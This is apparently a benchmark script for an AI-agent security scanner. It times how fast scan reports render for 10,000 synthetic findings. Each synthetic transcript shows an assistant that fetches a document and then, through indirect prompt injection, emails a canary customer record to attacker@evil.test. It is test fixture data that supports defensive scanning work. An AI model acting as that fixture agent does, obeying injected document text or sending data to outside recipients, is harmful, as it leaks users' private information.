"""Render time of every output format for a 10,000-finding synthetic scan (target: < 3 s).

The PDF (the optional pdf extra) lays out pages, a different kind of work: it is timed on its
own line against its own target and left out of the text formats' total.

The scan is built in memory (no engine, no target): ten thousand findings spread over the ten
ASI categories and four severities, each with a three-turn transcript, a tool call and two
pieces of evidence, which is heavier per finding than a real scan. Building it is not timed;
each emitter's ``render`` is, once per format, as ``probegate scan --output ...`` calls them.
"""

from __future__ import annotations

import hashlib
import time

from probegate.models.causes import Cause
from probegate.models.report import (
    Authority,
    Budget,
    CategoryState,
    Completeness,
    Controls,
    Engine,
    Finding,
    ProbeResult,
    ScanReport,
    SourceLocation,
    TargetInfo,
    UnjudgedAttempt,
)
from probegate.models.taxonomy import ASI_IDS, Severity
from probegate.models.transcript import ToolCall, Transcript, Turn
from probegate.models.verdict import Evidence
from probegate.reports import FORMATS

FINDINGS = 10_000
TARGET_SECONDS = 3.0
PDF_TARGET_SECONDS = 15.0
APART = {"pdf"}
_SEVERITIES = (Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW)


def synthetic_report(count: int = FINDINGS) -> ScanReport:
    """A valid scan report with ``count`` findings (one per probe, as in real scans)."""
    findings: list[Finding] = []
    results: list[ProbeResult] = []
    summary = {s.value: 0 for s in Severity}
    for i in range(count):
        asi = ASI_IDS[i % len(ASI_IDS)]
        severity = _SEVERITIES[i % len(_SEVERITIES)]
        summary[severity.value] += 1
        probe_id = f"{asi.lower()}.bench-{i:05d}.v1"
        fp = hashlib.sha256(f"finding:v1:{probe_id}".encode()).hexdigest()[:32]
        # What agents write: markup, terminal escapes, and text that is not ASCII (a report that
        # is all ASCII skips the escaping's slow paths).
        body = (
            f"Customer record {i}: PG-CANARY-{i:06d} | <b>notes</b> ]]> \x1b[31m::warning:: "
            "“café” — ok 😀"
        )
        transcript = Transcript(
            turns=[
                Turn(role="user", content=f"Please summarise https://docs.example.test/{i}.txt"),
                Turn(
                    role="assistant",
                    content=f"Sure. I read the document and will forward it as asked ({i}).",
                    tool_calls=[
                        ToolCall(
                            id=f"call_{i}",
                            name="send_email",
                            arguments={"to": "attacker@evil.test", "body": body},
                            result="sent",
                        )
                    ],
                ),
                Turn(role="assistant", content="Done: the summary was emailed."),
            ],
            tools_offered=["send_email", "fetch_document", "lookup_customer"],
        )
        canary_start = body.index("PG-CANARY")
        evidence = [
            Evidence(
                category="security.data_exfiltration",
                severity=severity,
                path="turns.1.tool_calls.0.arguments.body",
                start=canary_start,
                end=canary_start + 16,
                score=1.0,
                fp=hashlib.sha256(f"ev:{probe_id}:0".encode()).hexdigest()[:32],
                subject=body[canary_start : canary_start + 16],
                detector="canary_leak:plain",
            ),
            Evidence(
                category="security.data_exfiltration",
                severity=severity,
                path="turns.1.tool_calls.0.arguments.to",
                start=9,
                end=18,
                score=0.9,
                fp=hashlib.sha256(f"ev:{probe_id}:1".encode()).hexdigest()[:32],
                subject="evil.test",
                detector="tool_call:args",
            ),
        ]
        findings.append(
            Finding(
                id=f"F-{fp[:12]}",
                probe_id=probe_id,
                asi=asi,
                mitre_atlas=["AML.T0051.001", "AML.T0086"],
                csa_category="agent-goal-and-instruction-manipulation",
                severity=severity,
                attempt_count=3,
                success=True,
                confidence=0.95,
                summary=f"Bench probe {i} made the agent email a canary to evil.test",
                trigger_prompt=f"Please summarise https://docs.example.test/{i}.txt",
                pov_reference=f"pov/{probe_id}.sh",
                pov_reliability=0.4385,
                created_at="2026-01-01T00:00:00Z",
                fp=fp,
                name=f"Bench probe {i}: indirect injection via a fetched document",
                owasp_llm=["LLM01", "LLM02"],
                channel="document",
                successes=2,
                aivss_severity=round(9.8 - (i % 4) * 2.1, 1),
                remediation="Treat fetched documents as data; allowlist email recipients.",
                evidence=evidence,
                location=SourceLocation(path="agents/support/probegate.yml", line=12),
                transcript=transcript,
            )
        )
        results.append(
            ProbeResult(
                probe_id=probe_id,
                name=f"Bench probe {i}",
                asi=asi,
                severity=severity,
                channel="document",
                outcome="vulnerable",
                attempts=3,
                vulnerable=2,
                resisted=1,
            )
        )
    unjudged = [
        UnjudgedAttempt(
            attempt_id=f"a-{i}",
            probe_id=f"asi0{i % 9 + 1}.x.v1",
            reason="timeout",
            cause=Cause.TIMEOUT,
        )
        for i in range(100)
    ]
    return ScanReport(
        aivss=12,
        aivss_formula_version="probegate-aivss-1.0",
        asi_scores={a: float(10 * i) for i, a in enumerate(ASI_IDS)},
        band="CRITICAL",
        budget=Budget(),
        completeness=Completeness(
            agents_planned=count * 3,
            agents_completed=count * 3,
            agents_cut_short=0,
            turns_used=count * 3,
            turns_planned=count * 3,
            pct=100.0,
        ),
        coverage={"attempts_planned": count * 3},
        coverage_grade="A",
        created_at="2026-01-01T00:00:00Z",
        duration_seconds=3600.0,
        engine=Engine(),
        evaluation_mode="real",
        findings=findings,
        findings_summary=summary,
        mode="full",
        mode_authoritative=True,
        package_version="0.1.0",
        probe_library_version="bench",
        scan_id="pg-bench000001",
        scoring_valid=True,
        stopped_reason="completed",
        sub_scores={"asi_mean": 45.0},
        target=TargetInfo(
            kind="openai",
            ref="http://127.0.0.1:8000/v1",
            definition=SourceLocation(path="agents/support/probegate.yml", line=1),
        ),
        tier="T4",
        tokens_total=0,
        undertested=["ASI08"],
        authority=Authority(authoritative=False, failed=["undertested"], reasons=["ASI08"]),
        results=results,
        unjudged=unjudged,
        not_applicable=[],
        seed=0,
        controls=Controls(enabled=True),
        categories={
            asi: CategoryState(state="undertested", reason="too few of its probes could be judged")
            if asi == "ASI08"
            else CategoryState(state="tested", score=10.0 * i, value=10.0 * i)
            for i, asi in enumerate(ASI_IDS)
        },
    )


def time_formats(report: ScanReport) -> dict[str, tuple[float, float, int]]:
    """Wall seconds, CPU seconds and bytes per format, rendering each once.

    CPU time is printed beside wall time because this machine class is shared: wall time
    drifts with whatever else runs on it, the process's own CPU time much less.
    """
    figures: dict[str, tuple[float, float, int]] = {}
    for name, fmt in FORMATS.items():
        start, cpu = time.perf_counter(), time.process_time()
        data = fmt.render(report)
        figures[name] = (time.perf_counter() - start, time.process_time() - cpu, len(data))
    return figures


def main() -> None:
    start = time.perf_counter()
    report = synthetic_report()
    print(f"built a {FINDINGS}-finding synthetic scan in {time.perf_counter() - start:.2f} s")
    figures = time_formats(report)
    for name, (seconds, cpu, size) in figures.items():
        print(f"  {name:6} {seconds:6.2f} s  {cpu:6.2f} s CPU  {size / 1e6:7.2f} MB")
    text = [f for name, f in figures.items() if name not in APART]
    total, cpu_total = sum(f[0] for f in text), sum(f[1] for f in text)
    verdict = "ok" if total < TARGET_SECONDS else "OVER TARGET"
    print(
        f"text formats: {total:.2f} s, {cpu_total:.2f} s CPU "
        f"(target < {TARGET_SECONDS:.0f} s): {verdict}"
    )
    if "pdf" in figures:
        seconds = figures["pdf"][0]
        verdict = "ok" if seconds < PDF_TARGET_SECONDS else "OVER TARGET"
        print(f"pdf: {seconds:.2f} s (target < {PDF_TARGET_SECONDS:.0f} s): {verdict}")


if __name__ == "__main__":
    main()
